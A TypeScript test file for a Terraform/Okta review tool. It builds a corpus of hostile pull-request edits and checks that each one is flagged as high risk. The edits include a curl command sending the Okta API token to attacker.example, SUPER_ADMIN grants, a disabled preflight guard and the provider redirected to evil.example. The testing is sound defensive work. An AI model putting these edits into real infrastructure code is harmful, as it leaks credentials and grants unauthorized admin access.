/**
 * A hostile-head corpus: heads made from an honest base the way a pull request can make them (its
 * app's code editing the synthesized output after `app.synth()`, `addOverride` before it, extra files
 * in the stack folder), each of which must appear in the high-risk section of the review with its
 * reason; and the honest head, which must review as no change.
 */
import * as fs from 'fs';
import * as path from 'path';
import { TerraformResource, TerraformStack } from 'cdktf';
import { readSynthesizedApp } from '../../lib/manifest/read-synthesized-app';
import { OktaAdminRole } from '../../lib/mappings/mapping-types';
import { jumpCloudDirectory } from '../../lib/presets/jumpcloud/jumpcloud-directory';
import { OktaLdapIntegrationProps } from '../../lib/resources/okta-ldap-integration';
import { diffApps } from '../../lib/review/app-diff';
import { renderDiffText } from '../../lib/review/diff-render';
import { buildReview, Review } from '../../lib/review/review';
import { renderReviewMarkdown } from '../../lib/review/review-markdown';
import { RiskLevel } from '../../lib/review/risk-rule';
import { parseTerraformPlan } from '../../lib/review/terraform-plan';
import { editJsonFile, editStack as editStackOf, ParsedJson } from './synthesized-app-fixture';
import { copyOfApp, synthEditedOrgApp } from './synth-org-app';

const PROPS: OktaLdapIntegrationProps = {
  directory: jumpCloudDirectory({ orgId: '5f3c0a1b2c3d4e5f60718293', bindUser: 'okta-bind' }),
  ldapAppId: '0oa6qvmxznVl4KFXe5d7',
  userMappings: { firstName: 'appuser.givenName', email: 'appuser.mail' },
  groupMappings: [{ ldapGroup: 'engineering', oktaGroup: 'Engineering' }],
  roleMappings: [{ ldapGroup: 'admins', role: OktaAdminRole.READ_ONLY_ADMIN }],
  passwordPolicy: { name: 'LDAP users' },
};

/** Synthesizes the app (one stack `org`, one integration); `before` may change constructs before synth. */
const synth = (before: (stack: TerraformStack) => void = () => undefined): string =>
  synthEditedOrgApp('hostile-head-', [['JumpCloud', PROPS]], before);

const BASE = synth();
const base = readSynthesizedApp(BASE);
const STACK = path.join('stacks', 'org');

/** A copy of the base output folder, edited by `edit` (given the stack folder) as a PR's code can. */
function head(edit: (stackDir: string, outdir: string) => void): string {
  const outdir = copyOfApp(BASE, 'hostile-head-');
  edit(path.join(outdir, STACK), outdir);
  return outdir;
}

/** An edit of the stack's cdk.tf.json, as a corpus entry. */
const editStack =
  (edit: (tf: ParsedJson) => void) =>
  (_dir: string, outdir: string): void =>
    editStackOf(outdir, 'org', edit);
const integration = (tf: ParsedJson): ParsedJson => tf['//']['cdktf-okta-ldap'].integrations.JumpCloud;
const only = (byName: ParsedJson): [string, ParsedJson] => Object.entries(byName)[0] as [string, ParsedJson];
const guardOf = (tf: ParsedJson): [string, ParsedJson] =>
  Object.entries(tf.resource.terraform_data).find(([n]) => n.includes('PreflightGuard')) as [
    string,
    ParsedJson,
  ];
const localExec = (tf: ParsedJson): ParsedJson => guardOf(tf)[1].provisioner[0]['local-exec'];
const roleName = (tf: ParsedJson): string => only(tf.resource.okta_group_role)[0];

/** Adds an okta resource to the stack and lists it in the manifest, as if the construct made it. */
const listed = (type: string, name: string, body: ParsedJson) =>
  editStack((tf) => {
    (tf.resource[type] ??= {})[name] = body;
    integration(tf).resources.push({ type, address: `${type}.${name}`, purpose: 'admin access' });
  });

const ESCAPE = 'curl -s -H "Authorization: SSWS $OKTA_API_TOKEN" https://attacker.example/ -d @-';

/** Each hostile head: how it is made, the rule it must be ranked by, and a text its high-risk line must show. */
const CORPUS: [string, (dir: string, outdir: string) => void, string, string][] = [
  [
    'a module block',
    editStack((tf) => (tf.module = { extra: { source: './extra' } })),
    'RISK-UNREVIEWED-CONFIG',
    'module.extra',
  ],
  [
    'another *.tf.json granting SUPER_ADMIN',
    (dir) =>
      fs.writeFileSync(
        path.join(dir, 'grant.tf.json'),
        JSON.stringify({
          resource: { okta_group_role: { Extra: { group_id: '00gX', role_type: 'SUPER_ADMIN' } } },
        }),
      ),
    'RISK-EXTRA-CONFIG',
    'grant.tf.json',
  ],
  [
    'an override file making the role SUPER_ADMIN',
    (dir) => {
      const tf = JSON.parse(fs.readFileSync(path.join(dir, 'cdk.tf.json'), 'utf8'));
      const override = { resource: { okta_group_role: { [roleName(tf)]: { role_type: 'SUPER_ADMIN' } } } };
      fs.writeFileSync(path.join(dir, 'z_override.tf.json'), JSON.stringify(override));
    },
    'RISK-ROLE-WIDE',
    'SUPER_ADMIN',
  ],
  [
    'an override file (named)',
    (dir) => fs.writeFileSync(path.join(dir, 'override.tf.json'), '{"locals":{}}'),
    'RISK-EXTRA-CONFIG',
    'override.tf.json',
  ],
  [
    'a removed block forgetting the admin role (destroy = false) instead of revoking it',
    editStack((tf) => {
      const role = roleName(tf);
      delete tf.resource.okta_group_role[role];
      tf.removed = [{ from: `okta_group_role.${role}`, lifecycle: { destroy: false } }];
    }),
    'RISK-STATE-BLOCK',
    'without revoking it in Okta: the admin role stays granted',
  ],
  [
    'a removed block in an extra file',
    (dir) =>
      fs.writeFileSync(
        path.join(dir, 'forget.tf.json'),
        JSON.stringify({ removed: { from: 'okta_group_role.Other', lifecycle: { destroy: false } } }),
      ),
    'RISK-STATE-BLOCK',
    'forget.tf.json: removed from okta_group_role.Other',
  ],
  [
    'a moved block giving the role to another address',
    editStack((tf) => (tf.moved = [{ from: `okta_group_role.${roleName(tf)}`, to: 'okta_group_role.Kept' }])),
    'RISK-STATE-BLOCK',
    'Terraform will manage the object of okta_group_role.',
  ],
  [
    'an import block the construct did not write (taking over an existing role)',
    editStack(
      (tf) => (tf.import = [{ id: '00gAdmins/irbSuperAdmin', to: `okta_group_role.${roleName(tf)}` }]),
    ),
    'RISK-STATE-BLOCK',
    'Terraform will take over the existing Okta object 00gAdmins/irbSuperAdmin',
  ],
  [
    'an HCL file',
    (dir) => fs.writeFileSync(path.join(dir, 'main.tf'), 'resource "terraform_data" "x" {}\n'),
    'RISK-UNREVIEWED-CONFIG',
    'main.tf',
  ],
  [
    'synthesizedStackPath pointing at a decoy copy',
    (dir, outdir) => {
      fs.cpSync(dir, path.join(outdir, 'decoy'), { recursive: true });
      editJsonFile(
        path.join(outdir, 'manifest.json'),
        (m) => (m.stacks.org.synthesizedStackPath = 'decoy/cdk.tf.json'),
      );
      editStack((tf) => (tf.resource.okta_group_role[roleName(tf)].role_type = 'SUPER_ADMIN'))(dir, outdir);
    },
    'RISK-STACK-PATH',
    'decoy/cdk.tf.json',
  ],
  [
    'a stack folder manifest.json does not list',
    (dir, outdir) => fs.cpSync(dir, path.join(outdir, 'stacks', 'shadow'), { recursive: true }),
    'RISK-STACK-PATH',
    'stacks/shadow',
  ],
  [
    'a repeated "resource" key holding a grant',
    (dir) => {
      const file = path.join(dir, 'cdk.tf.json');
      const grant =
        '"resource":{"okta_group_role":{"Hidden":{"group_id":"00gX","role_type":"SUPER_ADMIN"}}},';
      fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/^\{/, `{${grant}`));
    },
    'RISK-DUPLICATE-KEY',
    'resource',
  ],
  [
    'the repeated key grants SUPER_ADMIN',
    (dir) => {
      const file = path.join(dir, 'cdk.tf.json');
      const grant =
        '"resource":{"okta_group_role":{"Hidden":{"group_id":"00gX","role_type":"SUPER_ADMIN"}}},';
      fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/^\{/, `{${grant}`));
    },
    'RISK-ROLE-WIDE',
    'okta_group_role.Hidden',
  ],
  [
    'okta_user_admin_roles listed in the manifest',
    listed('okta_user_admin_roles', 'Root', { user_id: '00uX', admin_roles: ['SUPER_ADMIN'] }),
    'RISK-PRIVILEGE-GRANT',
    'okta_user_admin_roles.Root',
  ],
  [
    'okta_group_memberships into an admin group, listed',
    listed('okta_group_memberships', 'Into', { group_id: '00gAdmins', users: ['00uX'] }),
    'RISK-PRIVILEGE-GRANT',
    'okta_group_memberships.Into',
  ],
  [
    'okta_app_group_assignment, listed',
    listed('okta_app_group_assignment', 'App', { app_id: '0oaX', group_id: '00gX' }),
    'RISK-PRIVILEGE-GRANT',
    'okta_app_group_assignment.App',
  ],
  [
    'okta_admin_role_custom_assignments, listed',
    listed('okta_admin_role_custom_assignments', 'Custom', {
      custom_role_id: 'cr0X',
      resource_set_id: 'iamX',
      members: ['x'],
    }),
    'RISK-PRIVILEGE-GRANT',
    'okta_admin_role_custom_assignments.Custom',
  ],
  [
    'the guard removed from Terraform (the manifest still lists it)',
    editStack((tf) => {
      const [name] = guardOf(tf);
      delete tf.resource.terraform_data[name];
      for (const byName of Object.values<ParsedJson>(tf.resource)) {
        for (const body of Object.values<ParsedJson>(byName)) delete body.depends_on;
      }
    }),
    'RISK-GUARD',
    'Terraform will not run it',
  ],
  [
    'the guard turned off in Terraform and in the manifest',
    editStack((tf) => {
      const [name] = guardOf(tf);
      delete tf.resource.terraform_data[name];
      const m = integration(tf);
      m.resources = m.resources.filter((r: ParsedJson) => !String(r.address).includes('PreflightGuard'));
      for (const byName of Object.values<ParsedJson>(tf.resource)) {
        for (const body of Object.values<ParsedJson>(byName)) delete body.depends_on;
      }
    }),
    'RISK-GUARD',
    'the guard is turned off',
  ],
  [
    'the runner asset replaced by process.exit(0)',
    (dir) => {
      const tf = JSON.parse(fs.readFileSync(path.join(dir, 'cdk.tf.json'), 'utf8'));
      fs.writeFileSync(path.join(dir, localExec(tf).command), 'process.exit(0);\n');
    },
    'RISK-GUARD',
    'changed after synth',
  ],
  [
    'count = 0 on the guard',
    editStack((tf) => (guardOf(tf)[1].count = 0)),
    'RISK-GUARD',
    'count is set on the guard',
  ],
  [
    'for_each on an admin role',
    editStack((tf) => (tf.resource.okta_group_role[roleName(tf)].for_each = '${var.groups}')),
    'RISK-MANIFEST-MISMATCH',
    'for_each',
  ],
  [
    'the provisioner command replaced',
    editStack((tf) => (localExec(tf).command = 'true')),
    'RISK-GUARD',
    'instead of the guard runner',
  ],
  [
    'the interpreter replaced',
    editStack((tf) => (localExec(tf).interpreter = ['sh', '-c'])),
    'RISK-GUARD',
    'another interpreter',
  ],
  [
    'the guard input pointed at another LDAP host',
    editStack((tf) => (guardOf(tf)[1].input.settings.agent.host = 'ldap.evil.example')),
    'RISK-GUARD',
    'the deploy will bind to ldap.evil.example:636 with the real bind password',
  ],
  [
    'an okta resource no longer waits for the guard',
    editStack((tf) => delete tf.resource.okta_group_role[roleName(tf)].depends_on),
    'RISK-GUARD',
    'no longer wait for the guard',
  ],
  [
    'on_failure = continue on the guard',
    editStack((tf) => (localExec(tf).on_failure = 'continue')),
    'RISK-GUARD',
    'on_failure',
  ],
  [
    'a terraform_data calling the Okta API with the token',
    editStack(
      (tf) => (tf.resource.terraform_data.Exfil = { provisioner: [{ 'local-exec': { command: ESCAPE } }] }),
    ),
    'RISK-SIDE-EFFECT',
    'terraform_data.Exfil',
  ],
  [
    'a provisioner on an okta group',
    editStack((tf) => {
      const [, group] = only(tf.resource.okta_group);
      group.provisioner = [{ 'local-exec': { command: ESCAPE } }];
    }),
    'RISK-SIDE-EFFECT',
    'provisioner',
  ],
  [
    'an external data source',
    editStack((tf) => (tf.data.external = { Run: { program: ['sh', '-c', ESCAPE] } })),
    'RISK-SIDE-EFFECT',
    'data.external.Run',
  ],
  [
    'the okta provider base_url',
    editStack((tf) => (tf.provider.okta[0].base_url = 'evil.example')),
    'RISK-CREDENTIALS',
    'provider.okta.base_url',
  ],
  [
    'the okta provider org_name',
    editStack((tf) => (tf.provider.okta[0].org_name = 'attacker')),
    'RISK-CREDENTIALS',
    'provider.okta.org_name',
  ],
  [
    'the okta provider http_proxy',
    editStack((tf) => (tf.provider.okta[0].http_proxy = 'http://proxy.evil.example')),
    'RISK-CREDENTIALS',
    'provider.okta.http_proxy',
  ],
  [
    'the okta provider source',
    editStack((tf) => (tf.terraform.required_providers.okta.source = 'evil/okta')),
    'RISK-CREDENTIALS',
    'terraform.required_providers.okta.source',
  ],
  [
    'Everyone added to the password policy',
    editStack((tf) => only(tf.resource.okta_policy_password)[1].groups_included.push('00gEveryoneGroupId')),
    'RISK-POLICY-SCOPE',
    '00gEveryoneGroupId',
  ],
  [
    'the password policy priority',
    editStack((tf) => (only(tf.resource.okta_policy_password)[1].priority = 1)),
    'RISK-MANIFEST-MISMATCH',
    'priority',
  ],
  [
    'the password policy status',
    editStack((tf) => (only(tf.resource.okta_policy_password)[1].status = 'INACTIVE')),
    'RISK-MANIFEST-MISMATCH',
    'status',
  ],
  [
    'role_type from an expression',
    editStack((tf) => (tf.resource.okta_group_role[roleName(tf)].role_type = '${var.role}')),
    'RISK-ROLE-WIDE',
    'var.role',
  ],
  [
    'addOverride before synth: the role made SUPER_ADMIN',
    (_dir, outdir) => {
      const made = synth((stack) => {
        const role = stack.node
          .findAll()
          .find((c) => c instanceof TerraformResource && c.terraformResourceType === 'okta_group_role');
        (role as TerraformResource).addOverride('role_type', 'SUPER_ADMIN');
      });
      fs.rmSync(outdir, { recursive: true });
      fs.cpSync(made, outdir, { recursive: true });
    },
    'RISK-ROLE-WIDE',
    'SUPER_ADMIN',
  ],
  [
    'addOverride before synth: the guard command replaced',
    (_dir, outdir) => {
      const made = synth((stack) => {
        const guard = stack.node
          .findAll()
          .find((c) => c instanceof TerraformResource && c.node.path.endsWith('PreflightGuard/Resource'));
        (guard as TerraformResource).addOverride('provisioner.0.local-exec.command', 'true');
      });
      fs.rmSync(outdir, { recursive: true });
      fs.cpSync(made, outdir, { recursive: true });
    },
    'RISK-GUARD',
    'instead of the guard runner',
  ],
];

/** The high-risk changes of a review as `rule id: text` lines, the text being what the review shows. */
function highRisk(review: Review): string[] {
  return review.changes
    .filter((c) => c.rule.level === RiskLevel.HIGH)
    .map(
      (c) =>
        `${c.rule.id}: ${c.change?.key ?? c.resource?.address} ${c.change?.label ?? ''} ${c.change?.before ?? ''} ${c.change?.after ?? ''}`,
    );
}

test('the honest head (the same app synthesized again) reviews as no change', () => {
  const review = buildReview(base, readSynthesizedApp(synth()));
  expect(review.changes).toEqual([]);
});

test.each(CORPUS)('%s: in the high-risk section with its reason', (_name, edit, rule, shows) => {
  const review = buildReview(base, readSynthesizedApp(head(edit)));
  const lines = highRisk(review);
  expect(lines.filter((l) => l.startsWith(`${rule}: `) && l.includes(shows))).not.toEqual([]);
  const markdown = renderReviewMarkdown(review);
  const section = markdown.slice(
    markdown.indexOf('High risk'),
    markdown.search(/Medium risk|Low risk|<details>/),
  );
  expect(section).toContain(review.changes.find((c) => c.rule.id === rule)!.rule.reason);
});

test('diff: a removed block forgetting the role is a stack finding naming the file and the block', () => {
  const forget = head(
    editStack((tf) => {
      const role = roleName(tf);
      delete tf.resource.okta_group_role[role];
      tf.removed = [{ from: `okta_group_role.${role}`, lifecycle: { destroy: false } }];
    }),
  );
  const diff = diffApps(base, readSynthesizedApp(forget));
  expect(diff.equal).toBe(false);
  const found = diff.stackFindings.filter((f) => f.rule.id === 'RISK-STATE-BLOCK');
  expect(found.map((f) => [f.stack, f.rule.level, f.change.key])).toEqual([
    [
      'org',
      RiskLevel.HIGH,
      expect.stringMatching(/^stacks\/org\/cdk\.tf\.json: removed from okta_group_role\./),
    ],
  ]);
  expect(found[0]!.change.label).toMatch(
    /^Terraform will forget okta_group_role\.\S+ without revoking it in Okta: the admin role stays granted/,
  );
  expect(renderDiffText(diff)).toContain('without revoking it in Okta');
});

test('backend and required_version changes are listed (medium)', () => {
  const review = buildReview(
    base,
    readSynthesizedApp(
      head(
        editStack((tf) => {
          tf.terraform.backend = { s3: { bucket: 'elsewhere' } };
          tf.terraform.required_version = '>= 0.1';
        }),
      ),
    ),
  );
  expect(review.changes.map((c) => [c.rule.id, c.change?.key, c.change?.kind])).toEqual([
    ['RISK-TERRAFORM-SETTING', 'terraform.backend.local', 'removed'],
    ['RISK-TERRAFORM-SETTING', 'terraform.backend.s3', 'added'],
    ['RISK-TERRAFORM-SETTING', 'terraform.required_version', 'added'],
  ]);
});

test('plans: an unowned okta_group_role unknown until apply, okta_user_admin_roles and a stray terraform_data are high', () => {
  const role = base[0]!.terraform!.find((b) => b.type === 'okta_group_role')!.address;
  const plan = parseTerraformPlan(
    {
      format_version: '1.2',
      resource_changes: [
        { address: role, type: 'okta_group_role', change: { actions: ['no-op'] } },
        {
          address: 'okta_group_role.Stray',
          type: 'okta_group_role',
          change: { actions: ['create'], after: {}, after_unknown: { role_type: true, group_id: true } },
        },
        {
          address: 'okta_user_admin_roles.Root',
          type: 'okta_user_admin_roles',
          change: { actions: ['create'] },
        },
        {
          address: 'okta_group_memberships.In',
          type: 'okta_group_memberships',
          change: { actions: ['update'] },
        },
        { address: 'terraform_data.Exfil', type: 'terraform_data', change: { actions: ['create'] } },
      ],
    },
    'plan.json',
  );
  const review = buildReview(base, base, { plans: [{ plan }] });
  expect(review.plans[0]!.resources.map((r) => [r.address, r.rule.id, r.rule.level])).toEqual([
    ['okta_group_role.Stray', 'RISK-ROLE-WIDE', 'high'],
    ['okta_user_admin_roles.Root', 'RISK-PRIVILEGE-GRANT', 'high'],
    ['okta_group_memberships.In', 'RISK-PRIVILEGE-GRANT', 'high'],
    ['terraform_data.Exfil', 'RISK-SIDE-EFFECT', 'high'],
  ]);
});
